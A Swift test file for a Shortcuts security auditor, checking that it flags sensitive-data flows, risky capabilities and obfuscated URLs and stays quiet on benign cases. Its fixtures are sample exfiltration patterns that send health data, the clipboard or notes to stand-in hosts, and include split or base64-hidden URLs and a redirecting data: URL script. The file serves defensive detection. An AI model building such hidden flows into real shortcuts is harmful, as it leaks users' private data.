import Diagnostics
import Foundation
import PropertyList
import ShortcutAudit
import ShortcutModel
import Testing

/// One test per rule of the table (flows by sink kind, capabilities, obfuscation), and the
/// cases that must stay quiet.
@Suite struct AuditRuleTests {
    typealias F = Fixture

    @Test func sourceSensitivitySetsTheSeverityOfANetworkFlow() {
        func severity(_ source: String) -> Severity? {
            F.findings(
                [F.action(source, 1), F.fetch(F.text(.text("https://s.example.com/?"), .variable(F.output(1))))],
                rule: "audit.flow.network"
            ).first?.severity
        }
        #expect(severity("filter.health.quantity") == .error)
        #expect(severity("dk.simonbs.DataJar.GetValueIntent") == .warning)  // third-party getter: app data
        #expect(severity("getdevicedetails") == .note)
        #expect(severity("ask") == .note)
        #expect(severity("gettext") == nil)
    }

    @Test func socialPostingIsAFlowRule() throws {
        let finding = try #require(
            F.findings(
                [
                    F.action("takescreenshot", 1), F.action("tweet", nil, [("TweetInput", .variable(F.output(1)))]),
                ], rule: "audit.flow.social"
            ).first)
        #expect(finding.severity == .error)
        #expect(finding.pathDescription == "0 Take Screenshot → 1 Tweet")
        #expect(finding.verdict == "posts screen content online")
    }

    @Test func dataPassedToAnSSHScriptIsAFlowAndTheScriptACapability() throws {
        let report = F.audit([
            F.action("filter.notes", 1),
            F.action(
                "runsshscript", nil,
                [
                    ("WFSSHHost", "203.0.113.7"),
                    ("WFSSHScript", F.text(.text("echo '"), .variable(F.output(1, "Notes")), .text("' >> /tmp/n"))),
                ]),
        ])
        #expect(report.findings.map(\.rule) == ["audit.flow.script", "audit.capability.shell"])
        #expect(report.findings[0].severity == .error)
        #expect(report.findings[0].pathDescription == "0 Find Notes (Notes) → 1 Run Script Over SSH (203.0.113.7)")
        #expect(report.findings[1].severity == .warning)
        #expect(report.verdict == "passes notes to a script; runs an SSH script")
    }

    @Test func savingFilesCopyingAndHandingToAppsAreWarningsForSensitiveData() {
        let files = F.findings(
            [
                F.action("selectphoto", 1), F.action("documentpicker.save", nil, [("WFInput", .variable(F.output(1)))]),
            ], rule: "audit.flow.files")
        #expect(files.map(\.severity) == [.warning])
        let clipboard = F.findings(
            [
                F.action("getcurrentlocation", 1), F.action("setclipboard", nil, [("WFInput", .variable(F.output(1)))]),
            ], rule: "audit.flow.clipboard")
        #expect(clipboard.map(\.pathDescription) == ["0 Get Current Location → 1 Copy to Clipboard"])
        let app = F.findings(
            [
                F.action("selectcontacts", 1),
                F.action("com.example.Notebook.SaveIntent", nil, [("entry", .variable(F.output(1)))]),
            ], rule: "audit.flow.app")
        #expect(app.map(\.severity) == [.warning])
        // Low-sensitivity data stored locally is not worth a finding.
        #expect(
            F.findings(
                [F.action("ask", 1), F.action("setclipboard", nil, [("WFInput", .variable(F.output(1)))])],
                rule: "audit.flow.clipboard"
            ).isEmpty)
    }

    @Test func anOpenURLWithAnAppSchemeIsAnAppFlowNotANetworkFlow() {
        let report = F.audit([
            F.action("getclipboard", 1),
            F.action("openurl", nil, [("WFInput", F.text(.text("things:///add?title="), .variable(F.output(1))))]),
        ])
        #expect(report.findings.map(\.rule) == ["audit.flow.app"])
        #expect(report.findings.first?.hosts == ["things:"])
    }

    @Test func capabilitiesAreFoundWithoutAnyData() {
        let report = F.audit([
            F.action("file.delete"),
            F.action("wifi.set", nil, [("OnValue", .boolean(false))]),
            F.action("com.apple.AccessibilityUtilities.AXSettingsShortcuts.AXToggleZoomIntent"),
            F.action("runworkflow", nil, [("WFWorkflowName", "Other")]),
            F.action("dk.simonbs.Scriptable.RunScriptInlineIntent", nil, [("script", "console.log(1)")]),
        ])
        // Most severe first, then in action order.
        #expect(
            report.findings.map(\.rule) == [
                "audit.capability.delete", "audit.capability.shell", "audit.capability.settings",
                "audit.capability.settings",
                "audit.capability.run-shortcut",
            ])
        #expect(report.findings.map(\.sinkAction) == [0, 4, 1, 2, 3])
        #expect(
            report.verdict
                == "deletes files; runs a Scriptable script; changes device settings; changes accessibility settings; runs other shortcuts"
        )
    }

    @Test func importingAShortcutLinkIsSelfUpdate() throws {
        let finding = try #require(
            F.findings(
                [
                    F.action(
                        "gettext", 1,
                        [("WFTextActionText", "https://www.icloud.com/shortcuts/0123456789abcdef0123456789abcdef")]),
                    F.action("openurl", nil, [("WFInput", .variable(F.output(1)))]),
                ], rule: "audit.capability.self-update"
            ).first)
        #expect(finding.severity == .warning)
        #expect(finding.sinkAction == 1)
        #expect(finding.hosts == ["www.icloud.com"])
    }

    @Test func aDataURLWithAScriptIsFlagged() throws {
        let finding = try #require(
            F.findings(
                [
                    F.action(
                        "url", 1, [("WFURLActionURL", "data:text/html,<script>location='https://x.example'</script>")]),
                    F.action("getwebpagecontents", nil, [("WFInput", .variable(F.output(1)))]),
                ], rule: "audit.capability.data-url-script"
            ).first)
        #expect(finding.hosts == ["data:"])
        #expect(
            F.findings(
                [
                    F.action("url", 1, [("WFURLActionURL", "data:text/plain,hello")]),
                    F.action("getwebpagecontents", nil, [("WFInput", .variable(F.output(1)))]),
                ], rule: "audit.capability.data-url-script"
            ).isEmpty)
    }

    @Test func aURLWhoseHostIsSplitOverTextActionsIsAssembled() throws {
        let finding = try #require(
            F.findings(
                [
                    F.action("gettext", 1, [("WFTextActionText", "https://ev")]),
                    F.action("gettext", 2, [("WFTextActionText", "il.example.com/c")]),
                    F.fetch(F.text(.variable(F.output(1)), .variable(F.output(2)))),
                ], rule: "audit.obfuscation.assembled"
            ).first)
        #expect(finding.hosts == ["evil.example.com"])
        #expect(finding.pathDescription == "0 Text → 1 Text → 2 Get Contents of URL (GET evil.example.com)")
        // A base URL kept in a variable with a path added is not obfuscation.
        #expect(
            F.findings(
                [
                    F.action("gettext", 1, [("WFTextActionText", "https://api.example.com")]),
                    F.fetch(F.text(.variable(F.output(1)), .text("/v1/items"))),
                ], rule: "audit.obfuscation.assembled"
            ).isEmpty)
    }

    @Test func decodedTextUsedAsAURLIsFlaggedAndItsHostRead() throws {
        let encoded = Data("https://hidden.example.com/x".utf8).base64EncodedString()
        let report = F.audit([
            F.action("gettext", 1, [("WFTextActionText", .string(encoded))]),
            F.action("base64encode", 2, [("WFEncodeMode", "Decode"), ("WFInput", .variable(F.output(1)))]),
            F.fetch(.variable(F.output(2))),
        ])
        let finding = try #require(report.findings.first { $0.rule == "audit.obfuscation.decoded" })
        #expect(finding.pathDescription == "1 Base64 Encode → 2 Get Contents of URL (GET hidden.example.com)")
        #expect(report.findings.allSatisfy { $0.rule != "audit.flow.network" })
    }

    @Test func aLongEncodedBlobWithoutACommentIsNoted() {
        let blob = String(repeating: "QUJD", count: 300)
        #expect(
            F.findings([F.action("gettext", 1, [("WFTextActionText", .string(blob))])], rule: "audit.obfuscation.blob")
                .map(\.severity) == [.note])
        #expect(
            F.findings(
                [
                    F.action("comment", nil, [("WFCommentActionText", "the app icon, base64")]),
                    F.action("gettext", 1, [("WFTextActionText", .string(blob))]),
                ], rule: "audit.obfuscation.blob"
            ).isEmpty)
        #expect(
            F.findings(
                [F.action("gettext", 1, [("WFTextActionText", .string(String(repeating: "a b ", count: 400)))])],
                rule: "audit.obfuscation.blob"
            ).isEmpty)
    }

    @Test func flowsOfOneKindMergeIntoOneVerdictPhrase() {
        let report = F.audit([
            F.action("getclipboard", 1),
            F.fetch(F.text(.text("https://a.example.com/?"), .variable(F.output(1)))),
            F.action("getcurrentlocation", 3),
            F.action("downloadurl", 4, [("WFURL", F.text(.text("https://b.example.com/?"), .variable(F.output(3))))]),
            F.action("downloadurl", 5, [("WFURL", .variable(F.output(3)))]),
        ])
        #expect(report.findings.count == 3)
        #expect(report.verdict == "sends the clipboard, location to a.example.com, b.example.com, a computed address")
    }

    // MARK: - Quiet cases

    @Test func dataShownToTheUserOnlyIsQuiet() {
        let report = F.audit([
            F.action("selectcontacts", 1),
            F.action("showresult", 2, [("Text", F.text(.variable(F.output(1))))]),
            F.action("alert", 3, [("WFAlertActionMessage", F.text(.variable(F.output(1))))]),
            F.fetch(.variable(F.output(2))),
        ])
        #expect(report.findings.isEmpty)
        #expect(report.verdict == "no findings")
    }

    @Test func aURLFetchedWithNoSensitiveDataIsQuiet() {
        #expect(
            F.audit([
                F.action("gettext", 1, [("WFTextActionText", "Stockholm")]),
                F.fetch(F.text(.text("https://api.example.com/weather?city="), .variable(F.output(1)))),
            ]).findings.isEmpty)
    }

    @Test func aVariableOverwrittenBeforeTheSinkIsQuiet() {
        #expect(
            F.audit([
                F.action("getclipboard", 1),
                F.setVariable("payload", F.output(1)),
                F.action("gettext", 3, [("WFTextActionText", "hello")]),
                F.setVariable("payload", F.output(3)),
                F.fetch(F.text(.text("https://api.example.com/?p="), .variable(.variable("payload")))),
            ]).findings.isEmpty)
    }

    @Test func messageRecipientsAreNotTheMessage() {
        #expect(
            F.audit([
                F.action("selectcontacts", 1),
                F.action(
                    "sendmessage", nil,
                    [("WFSendMessageActionRecipients", .variable(F.output(1))), ("WFSendMessageContent", "Hi")]),
            ]).findings.isEmpty)
    }

    @Test func repeatIndexCarriesNoData() {
        #expect(
            F.audit([
                F.action("getclipboard", 1),
                F.control("repeat.each", .start, group: 1, [("WFInput", .variable(F.output(1)))]),
                F.fetch(F.text(.text("https://api.example.com/?i="), .variable(.variable("Repeat Index")))),
                F.control("repeat.each", .end, group: 1),
            ]).findings.isEmpty)
    }
}
